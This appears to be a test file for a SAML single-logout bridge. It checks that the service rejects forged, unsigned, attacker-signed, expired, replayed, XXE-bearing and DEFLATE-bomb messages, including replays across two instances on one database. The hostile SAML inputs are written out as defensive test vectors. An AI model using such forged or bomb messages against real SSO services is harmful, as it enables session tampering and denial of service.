    const forger = () => new TestIdp({ entityId: slo.idp.entityId, keys: attacker });

    const logoutVectors: Array<{
      name: string;
      send: () => Promise<HttpResponse>;
      status?: number;
      reason: SamlReason;
    }> = [
      {
        name: 'unsigned LogoutRequest (Redirect)',
        send: () => redirect(slo.idp.redirectBindingQuery('SAMLRequest', logoutRequest())),
        reason: 'saml_signature_missing',
      },
      {
        name: 'unsigned LogoutRequest (POST)',
        send: () => postBinding(logoutRequest()),
        reason: 'saml_signature_missing',
      },
      {
        name: 'LogoutRequest signed with an attacker key (Redirect)',
        send: () =>
          redirect(forger().redirectBindingQuery('SAMLRequest', logoutRequest(), undefined, { sign: true })),
        reason: 'saml_signature_invalid',
      },
      {
        name: 'LogoutRequest signed with an attacker key (POST)',
        send: () =>
          postBinding(
            forger().logoutRequestXml(
              { spEntityId: slo.spEntityId, destination: slo.sloUrl, nameId: SLO_USER },
              { sign: true },
            ),
          ),
        reason: 'saml_signature_invalid',
      },
      {
        name: 'LogoutRequest with an unknown SigAlg (rsa-md5)',
        send: () =>
          redirect(
            `${slo.idp.redirectBindingQuery('SAMLRequest', logoutRequest())}&SigAlg=${encodeURIComponent(RSA_MD5)}&Signature=${encodeURIComponent(Buffer.from('x'.repeat(256)).toString('base64'))}`,
          ),
        reason: 'saml_signature_algorithm_forbidden',
      },
      {
        name: 'LogoutRequest from another IdP',
        send: () => {
          const other = new TestIdp({ entityId: EVIL_IDP, keys: attacker });
          return redirect(
            other.redirectBindingQuery('SAMLRequest', logoutRequest({ issuer: EVIL_IDP }, other), undefined, {
              sign: true,
            }),
          );
        },
        reason: 'saml_issuer_mismatch',
      },
      {
        name: 'LogoutRequest addressed to another SP',
        send: () =>
          redirect(
            slo.idp.redirectBindingQuery(
              'SAMLRequest',
              logoutRequest({ destination: `${EVIL_SP}/slo` }),
              undefined,
              {
                sign: true,
              },
            ),
          ),
        reason: 'saml_destination_mismatch',
      },
      {
        name: 'expired LogoutRequest (NotOnOrAfter past, Redirect)',
        send: () =>
          redirect(
            slo.idp.redirectBindingQuery(
              'SAMLRequest',
              logoutRequest({ now: minutesFromNow(-60), notOnOrAfter: minutesFromNow(-50) }),
              undefined,
              { sign: true },
            ),
          ),
        reason: 'saml_expired',
      },
      {
        name: 'expired LogoutRequest (NotOnOrAfter past, POST)',
        send: () =>
          postBinding(
            slo.idp.logoutRequestXml(
              {
                spEntityId: slo.spEntityId,
                destination: slo.sloUrl,
                nameId: SLO_USER,
                now: minutesFromNow(-60),
                notOnOrAfter: minutesFromNow(-50),
              },
              { sign: true },
            ),
          ),
        reason: 'saml_expired',
      },
      {
        // Strict xs:dateTime, as on the ACS (formerly a time Date.parse read was taken as it came).
        name: 'LogoutRequest NotOnOrAfter without a time zone (Redirect)',
        send: () =>
          redirect(
            slo.idp.redirectBindingQuery(
              'SAMLRequest',
              setAttribute(
                logoutRequest(),
                'samlp:LogoutRequest',
                'NotOnOrAfter',
                samlInstant(minutesFromNow(5)).replace(/Z$/, ''),
              ),
              undefined,
              { sign: true },
            ),
          ),
        reason: 'saml_malformed_xml',
      },
      {
        name: 'stale LogoutRequest (IssueInstant 2 h ago, NotOnOrAfter still in the future)',
        send: () =>
          redirect(
            slo.idp.redirectBindingQuery(
              'SAMLRequest',
              logoutRequest({ now: minutesFromNow(-120), notOnOrAfter: minutesFromNow(30) }),
              undefined,
              { sign: true },
            ),
          ),
        reason: 'saml_expired',
      },
      {
        name: 'forged LogoutResponse answering no logout request of ours',
        send: () =>
          redirect(
            slo.idp.redirectBindingQuery(
              'SAMLResponse',
              slo.idp.logoutResponseXml({ destination: slo.sloUrl, inResponseTo: newSamlId() }),
              undefined,
              { sign: true },
            ),
          ),
        reason: 'saml_in_response_to_unknown',
      },
      {
        name: 'LogoutRequest with a DOCTYPE (POST)',
        send: () => postBinding(withDoctype(logoutRequest(), 'xxe').xml),
        reason: 'saml_doctype_forbidden',
      },
      {
        name: 'SAMLRequest of bytes that are not valid UTF-8 (POST)',
        send: () => postBinding(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0xff, 0x3c, 0x2f, 0x61, 0x3e])),
        reason: 'saml_malformed_xml',
      },
      {
        name: 'DEFLATE bomb LogoutRequest on this connection (Redirect)',
        send: () => redirect(`SAMLRequest=${encodeURIComponent(deflateBomb(5).SAMLRequest)}`),
        status: 413,
        reason: 'saml_message_too_large',
      },
    ];

    it.each(logoutVectors)('$name → $reason, the session survives', async (v) => {
      const res = await v.send();
      expect({ status: res.status, reason: reasonOf(res.text) }).toEqual({
        status: v.status ?? 400,
        reason: v.reason,
      });
      expect(res.headers['set-cookie']).toBeUndefined();
      expect(res.headers.location).toBeUndefined();
      expectNoInternals(res.text);
      expect(await sessionAlive(cookie)).toBe(true);
    });

    it('a replayed signed LogoutRequest is refused and does not end the next session', async () => {
      const user = 'slo-replay-victim';
      const first = await login(slo, user);
      const query = slo.idp.redirectBindingQuery('SAMLRequest', logoutRequest({ nameId: user }), 'rs', {
        sign: true,
      });
      expect((await redirect(query)).status).toBe(303);
      expect(await sessionAlive(first)).toBe(false);
      const second = await login(slo, user);
      const replay = await redirect(query);
      expect({
        status: replay.status,
        reason: reasonOf(replay.text),
        nextSessionAlive: await sessionAlive(second),
      }).toEqual({ status: 400, reason: 'saml_replay', nextSessionAlive: true });
    });
  });
});

/** The AuthnRequest XML of a Redirect-binding login URL. */
function authnRequestXml(location: string): string {
  const encoded = new URL(location).searchParams.get('SAMLRequest');
  if (!encoded) throw new Error('test setup: no SAMLRequest');
  return inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8');
}

// -----------------------------------------------------------------------------------------------------------
// Replay across instances: two bridge apps on ONE database (real PostgreSQL only)
// -----------------------------------------------------------------------------------------------------------

if (postgresAvailable()) {
  describe('SAML replay protection across two bridge instances sharing one PostgreSQL database', () => {
    let a: TestApp;
    let b: TestApp;
    let conn: SamlConnectionFixture;

    beforeAll(async () => {
      a = await startTestApp('postgres');
      b = await startTestApp('embedded', { DATABASE_URL: a.config.databaseUrl as string });
      conn = await createTestConnection(a, 'atk-shared', {
        allowIdpInitiated: true,
        options: { idpInitiatedTarget: '/home' },
      });
    });
    afterAll(async () => {
      await b?.close();
      await a?.close();
    });

    const input = (extra: Partial<AssertionInput> = {}): AssertionInput => ({
      spEntityId: conn.spEntityId,
      acsUrl: conn.acsUrl,
      nameId: 'shared-user',
      attributes: { email: 'shared@example.com' },
      ...extra,
    });
    const post = (app: TestApp, xml: string) =>
      app
        .http()
        .post(`/saml/${conn.slug}/acs`)
        .type('form')
        .send({ SAMLResponse: Buffer.from(xml).toString('base64') })
        .then((r) => r);

    it('the second instance sees the same connection (shared database)', async () => {
      await b.http().get(`/saml/${conn.slug}/metadata`).expect(200);
    });

    it('an IdP-initiated response accepted by instance A is a replay on instance B', async () => {
      const xml = conn.idp.responseXml(input());
      expect((await post(a, xml)).status).toBe(303);
      const replay = await post(b, xml);
      expect({ status: replay.status, reason: reasonOf(replay.text) }).toEqual({
        status: 400,
        reason: 'saml_replay',
      });
      expect(cookieFrom(replay)).toBeUndefined();
    });

    it('a login started on A is answered once, on B; replaying it on A → saml_in_response_to_unknown', async () => {
      const { requestId } = await startLogin(a, conn.slug);
      const xml = conn.idp.responseXml(input({ inResponseTo: requestId }));
      expect((await post(b, xml)).status).toBe(303);
      const replay = await post(a, xml);
      expect({ status: replay.status, reason: reasonOf(replay.text) }).toEqual({
        status: 400,
        reason: 'saml_in_response_to_unknown',
      });
    });

    it('the same response raced to both instances is accepted exactly once', async () => {
      const unsolicited = conn.idp.responseXml(input());
      const idpInitiated = await Promise.all([
        post(a, unsolicited),
        post(b, unsolicited),
        post(a, unsolicited),
        post(b, unsolicited),
      ]);
      expect(idpInitiated.map((r) => r.status).sort()).toEqual([303, 400, 400, 400]);
      expect(idpInitiated.filter((r) => r.status === 400).map((r) => reasonOf(r.text))).toEqual([
        'saml_replay',
        'saml_replay',
        'saml_replay',
      ]);

      const { requestId } = await startLogin(b, conn.slug);
      const solicitedXml = conn.idp.responseXml(input({ inResponseTo: requestId }));
      const spInitiated = await Promise.all([
        post(a, solicitedXml),
        post(b, solicitedXml),
        post(a, solicitedXml),
      ]);
      expect(spInitiated.map((r) => r.status).sort()).toEqual([303, 400, 400]);
    });
  });
}
